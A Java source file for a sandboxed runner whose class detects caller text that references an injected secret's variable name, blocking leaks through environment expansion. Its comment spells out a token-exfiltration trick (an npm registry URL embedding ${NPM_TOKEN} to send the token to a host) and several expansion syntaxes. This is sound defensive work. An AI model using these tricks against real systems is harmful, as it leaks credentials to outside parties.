package dev.gatehouse.runner;

import java.util.Collection;

/**
 * Finds caller text that names an injected secret's variable, so the program cannot be made to
 * expand it from the environment that holds the secret. npm expands {@code ${NAME}} in every
 * setting it reads from the environment (@npmcli/config {@code envReplace}): {@code
 * NPM_CONFIG_REGISTRY=http://host/${NPM_TOKEN}/} sends the token to that host. Maven reads {@code
 * ${env.NAME}}, make {@code $(NAME)}, PowerShell {@code $env:NAME}, cmd {@code %NAME%}
 * (case-insensitively), Go templates {@code {{env "NAME"}}}; there are too many syntaxes to list.
 *
 * <ul>
 *   <li>A caller's variable: its value may not contain a secret's name as a word at all (any case,
 *       any syntax): configuration values have no reason to name one.
 *   <li>An argument given literally to a program that is not a shell: refused when the name follows
 *       a reference sigil ({@code $NAME}, {@code ${NAME:-x}}, {@code $(NAME)}, {@code %NAME%},
 *       {@code ${env.NAME}}, {@code $env:NAME}, {@code !NAME!}), any case; such a literal only
 *       means something to a program that expands it. Arguments of a shell ({@code sh -c 'curl -H
 *       "Authorization: Bearer $TOKEN" ...'}, or a command line that needs one) are not checked:
 *       that is how a script uses the secret it was given, and a rule that admits a shell has given
 *       the caller the secret's use anyway (docs/masking.md).
 * </ul>
 */
final class SecretReferences {
  private SecretReferences() {}

  /** Characters a reference puts right before the name in the syntaxes above. */
  private static final String SIGILS = "${(%.:!";

  /** The secret named as a word anywhere in {@code value} (any case), or null. */
  static String inValue(String value, Collection<String> secrets) {
    return find(value, secrets, false);
  }

  /**
   * The secret that an argument of {@code binary} references, or null; never for a shell (see the
   * class comment).
   */
  static String inArgument(String binary, String arg, Collection<String> secrets) {
    // a shell's arguments are scripts, where $NAME is the ordinary use of a secret; not a
    // multi-call binary's (busybox awk, toybox sed: its first argument names a tool)
    if (dev.gatehouse.policy.ArgvSafety.isShell(binary) && !multiCall(binary)) {
      return null;
    }
    return find(arg, secrets, true);
  }

  private static boolean multiCall(String binary) {
    String name = binary.substring(binary.lastIndexOf('/') + 1);
    return name.equals("busybox") || name.equals("toybox");
  }

  private static String find(String text, Collection<String> secrets, boolean sigil) {
    for (String s : secrets) {
      int n = s.length();
      for (int i = 0; i + n <= text.length(); i++) {
        if (text.regionMatches(true, i, s, 0, n)
            && (i == 0 ? !sigil : !word(text.charAt(i - 1)))
            && (!sigil || (i > 0 && SIGILS.indexOf(text.charAt(i - 1)) >= 0))
            && (i + n == text.length() || !word(text.charAt(i + n)))) {
          return s;
        }
      }
    }
    return null;
  }

  private static boolean word(char c) {
    return c == '_' || (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9');
  }
}
